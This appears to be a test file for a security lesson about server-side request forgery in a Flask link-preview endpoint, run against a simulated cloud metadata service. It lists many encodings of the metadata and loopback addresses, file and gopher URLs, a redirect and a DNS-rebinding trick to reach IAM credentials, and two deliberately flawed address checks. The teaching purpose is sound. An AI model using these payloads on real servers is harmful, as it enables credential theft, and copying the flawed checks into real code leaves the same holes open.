/** The link preview with real requests, and a metadata service on this machine: what each address really gets. */
import assert from 'node:assert/strict'
import { openPython } from '#scenario/python'
import type { Scenario } from '#scenario/scenario'

export const notRun = {
  '3-damage': 'the cloud belongs to the story',
  '6-again': 'the proxy belongs to the story',
}

const modules = (preview: string) => ({
  'link_preview.py': preview,
  'chat/__init__.py': '',
  'chat/auth.py': `from functools import wraps
from flask import jsonify, request
def require_member(route):
    @wraps(route)
    def checked():
        return route() if "chat_session" in request.cookies else (jsonify(error="Please sign in."), 401)
    return checked
`,
  'chat/cache.py': `class previews:
    get = staticmethod(lambda url: None)
    put = staticmethod(lambda url, preview, ttl: None)
`,
  // As much of Beautiful Soup as the preview uses.
  'bs4.py': `from html.parser import HTMLParser
class _Text(str):
    def get_text(self, strip=False): return self.strip()
class BeautifulSoup(HTMLParser):
    def __init__(self, body, _parser):
        super().__init__()
        self.title, self.texts, self.path = None, [], []
        self.feed(body.decode("utf-8", "replace"))
    def handle_starttag(self, tag, attributes): self.path.append(tag)
    def handle_endtag(self, tag): self.path.pop()
    def handle_data(self, data):
        if self.path[-1:] == ["title"]: self.title = _Text(data)
        if data.strip(): self.texts.append(data.strip())
    def get_text(self, separator, strip): return separator.join(self.texts)
`,
})

/** The network of the story: addresses are read by the system as always, and connections end on this machine. */
const script = `
import http.server, ipaddress, json, socket, sys, threading
import flask

job = json.load(sys.stdin)
pages = {
    "metadata": {
        "/": "1.0\\n2007-01-19\\n2007-03-01\\n2024-04-11\\nlatest",
        "/latest": "dynamic\\nmeta-data\\nuser-data",
        "/latest/meta-data": "ami-id\\nami-launch-index\\nblock-device-mapping/\\nhostname\\niam/\\ninstance-id\\ninstance-type\\nlocal-hostname\\nlocal-ipv4\\nmac\\nnetwork/\\nplacement/\\npublic-keys/\\nreservation-id\\nsecurity-groups",
        "/latest/meta-data/hostname": "ip-10-0-3-17.internal",
        "/latest/meta-data/instance-id": "i-0ab12cd34ef567890",
        "/latest/meta-data/iam": "info\\nsecurity-credentials/",
        "/latest/meta-data/iam/info": job["info"],
        "/latest/meta-data/iam/security-credentials": "chat-web-prod",
        "/latest/meta-data/iam/security-credentials/chat-web-prod": job["keys"],
        "/latest/user-data": "#!/bin/bash\\nset -eu\\ndnf -y install docker\\nsystemctl enable --now docker\\ndocker run -d -p 8000:8000 registry.example.com/chat-web:2.1",
    },
    "nginx": {"/": "<title>Welcome to nginx!</title><h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working. Further configuration is required.</p>"},
    "public": {"/": "<title>Example Domain</title><h1>Example Domain</h1><p>This domain is for use in illustrative examples in documents. You may use this domain in literature without prior coordination or asking for permission.</p>", "/leads-inside": None},
}
def serve(name):
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            path = self.path.rstrip("/") or "/"
            text = pages[name].get(path, "")
            self.send_response(302 if text is None else 200 if text else 404)
            if text is None: self.send_header("Location", "http://169.254.169.254/latest/meta-data/iam/security-credentials/chat-web-prod")
            self.end_headers()
            self.wfile.write((text or "").encode())
        def log_message(self, *_): pass
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]
ports = {name: serve(name) for name in pages}

names = {"www.example.com": ["203.0.113.10"], "example.com": ["203.0.113.10"], "rebind.example.net": ["203.0.113.11", "169.254.169.254"], "localhost.": ["127.0.0.1"]}
real_getaddrinfo, real_connect = socket.getaddrinfo, socket.socket.connect
def getaddrinfo(host, port, *rest, **more):
    if isinstance(host, bytes): host = host.decode()
    if host in names:
        # Each question may get another answer; the last one stays.
        address = names[host].pop(0) if len(names[host]) > 1 else names[host][0]
        return real_getaddrinfo(address, port, *rest, **more)
    try: return real_getaddrinfo(host, port, 0, socket.SOCK_STREAM, 0, socket.AI_NUMERICHOST)
    except socket.gaierror: raise socket.gaierror(-2, "Name or service not known")
def connect(self, address):
    ip = ipaddress.ip_address(address[0])
    ip = getattr(ip, "ipv4_mapped", None) or ip
    target = None
    if str(ip) in ("169.254.169.254", "fd00:ec2::254"): target = "metadata"
    elif ip.is_loopback or str(ip) == "0.0.0.0": target = "nginx"
    elif str(ip).startswith("203.0.113."): target = "public"
    if target is None: raise socket.timeout("timed out")
    # Nothing here speaks TLS but the public page, which is the same without it.
    if address[1] not in (80, 443) or (address[1] == 443 and target != "public"): raise ConnectionRefusedError(111, "Connection refused")
    if self.family == socket.AF_INET6:
        timeout = self.gettimeout()
        self.__init__(socket.AF_INET, socket.SOCK_STREAM)
        self.settimeout(timeout)
    return real_connect(self, ("127.0.0.1", ports[target]))
socket.getaddrinfo, socket.socket.connect = getaddrinfo, connect
socket.gethostbyname = lambda host: getaddrinfo(host, 0, socket.AF_INET)[0][4][0]

import link_preview
app = flask.Flask("chat")
app.register_blueprint(link_preview.bp)
client = app.test_client()
client.set_cookie("chat_session", "9b1c", domain="chat.example.com")
answers = []
for body in job["bodies"]:
    response = client.post("/api/link-preview", data=body, content_type="application/json", base_url="https://chat.example.com")
    answers.append({"status": response.status_code, "json": response.get_json(silent=True)})
print(json.dumps(answers))
`

type Answer = { status: number; json: { snippet?: string; error?: string } | null }

const base = '/latest/meta-data/iam/security-credentials'
const spellings = [
  '169.254.169.254',
  '169.254.169.254:80',
  '2852039166',
  '0xa9fea9fe',
  '0xa9.0xfe.0xa9.0xfe',
  '0251.0376.0251.0376',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '[fd00:ec2::254]',
]
const urls = [
  ...spellings.map((host) => `http://${host}${base}/chat-web-prod`),
  `http://169.254.169.254${base}/chat-web-prod/`,
  ...spellings.map((host) => `http://${host}${base}/`),
  `http://169.254.169.254${base}`,
  `http://169.254.169.254${base}/admin`,
  ...[
    '/latest/meta-data/iam/info',
    '/latest/meta-data/iam/',
    '/latest/meta-data/',
    '/latest/meta-data',
    '/latest/',
    '/',
  ].map((path) => `http://169.254.169.254${path}`),
  ...['/latest/meta-data/hostname', '/latest/meta-data/instance-id', '/latest/user-data', '/nothing', ''].map(
    (path) => `http://169.254.169.254${path}`,
  ),
  'https://169.254.169.254/latest/meta-data/',
  'http://localhost/',
  'http://127.0.0.1/',
  'http://0.0.0.0/',
  'http://[::1]/',
  'http://127.1/',
  'http://127.0.0.2/',
  'http://2130706433/',
  'http://0x7f000001/',
  'http://0/',
  'http://[::ffff:127.0.0.1]/',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'http://10.0.0.5/',
  'http://192.168.0.1/',
  'http://www.example.com/',
  'http://elsewhere.example.org.invalid/',
  'file:///etc/passwd',
  'gopher://127.0.0.1/',
  'ftp://127.0.0.1/',
]
const bodies = ['', 'hello', '{}', '{ "link": "x" }', ...urls.map((url) => JSON.stringify({ url }))]

export async function prove(scenario: Scenario): Promise<void> {
  const { check, quote, ask, folder } = scenario
  const python = openPython(['flask', 'requests'])
  const snippetOf = (url: string) =>
    (JSON.parse(ask('2-attack', { body: JSON.stringify({ url }) }).text.split('\n\n#')[0] ?? '') as { snippet: string })
      .snippet
  const keys = snippetOf(`http://169.254.169.254${base}/chat-web-prod`)
  const info = snippetOf('http://169.254.169.254/latest/meta-data/iam/info')
  const run = (source: string, some: string[]) => {
    const { result, errors } = python({ folder, modules: modules(source), script, input: { bodies: some, keys, info } })
    assert.ok(result, errors)
    return result as Answer[]
  }

  const answers = run(scenario.code(), bodies)
  for (const [index, body] of bodies.entries()) {
    const { status, json } = answers[index] as Answer
    await check(`2-attack: ${body}`, () => {
      const reply = ask('2-attack', { body })
      const happened = `what really happened: ${status} ${JSON.stringify(json)}\nwhat the step answers: ${reply.status} ${reply.text}`
      assert.equal(reply.status, status, happened)
      assert.equal(reply.isGoal, json?.snippet?.includes('SecretAccessKey') === true, happened)
      const shown = JSON.parse(reply.text.split('\n\n#')[0] ?? '') as { snippet?: string; error?: string }
      assert.equal(shown.error, json?.error, happened)
      // Facts about the machine are summed up in one answer.
      const lines = body.includes('instance-id') ? [] : (shown.snippet?.split('\n') ?? [])
      for (const line of lines.filter((one) => one !== '...')) assert.ok(json?.snippet?.includes(line), happened)
    })
  }
  await check('2-attack: requests that never get to the preview', () => {
    assert.equal(ask('2-attack', { method: 'GET' }).status, 405)
    assert.equal(ask('2-attack', { path: '/' }).status, 404)
    assert.equal(ask('2-attack', { headers: 'Host: chat.example.com' }).status, 401)
  })

  const leaks = (source: string, url: string) =>
    run(source, [JSON.stringify({ url })])[0]?.json?.snippet?.includes('SecretAccessKey') === true
  await check('a redirect of a public page leads to the metadata service', () => {
    quote('4-code', '`requests` follows up to thirty of them')
    assert.ok(leaks(scenario.code(), 'http://www.example.com/leads-inside'))
  })
  await check('a name that is resolved twice gets past the first answer', () => {
    const source = scenario.code(resolvedFirst)
    assert.equal(leaks(source, `http://169.254.169.254${base}/chat-web-prod`), false)
    assert.ok(leaks(source, `http://rebind.example.net${base}/chat-web-prod`))
    assert.ok(leaks(source, 'http://www.example.com/leads-inside'))
  })
  await check('a list of networks does not know other spellings', () => {
    const source = scenario.code(networks)
    assert.equal(leaks(source, `http://169.254.169.254${base}/chat-web-prod`), false)
    for (const host of ['2852039166', '[::ffff:a9fe:a9fe]']) {
      quote('5-fix', `\`${host}\``)
      assert.ok(leaks(source, `http://${host}${base}/chat-web-prod`), host)
    }
  })
}

const resolvedFirst = {
  'check-address': `def is_previewable(url: str) -> bool:
    import ipaddress, socket
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https") or not parts.hostname:
        return False
    address = ipaddress.ip_address(socket.gethostbyname(parts.hostname))
    return str(address).startswith("203.0.113.") or not (address.is_private or address.is_link_local)`,
}
const networks = {
  'check-address': `def is_previewable(url: str) -> bool:
    import ipaddress
    parts = urlsplit(url)
    inside = [ipaddress.ip_network(one) for one in ("169.254.0.0/16", "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16")]
    try:
        address = ipaddress.ip_address(parts.hostname or "")
        if address.version == 4 and any(address in network for network in inside):
            return False
    except ValueError:
        pass
    return parts.scheme in ("http", "https") and bool(parts.hostname) and parts.hostname not in LOCAL_NAMES`,
}
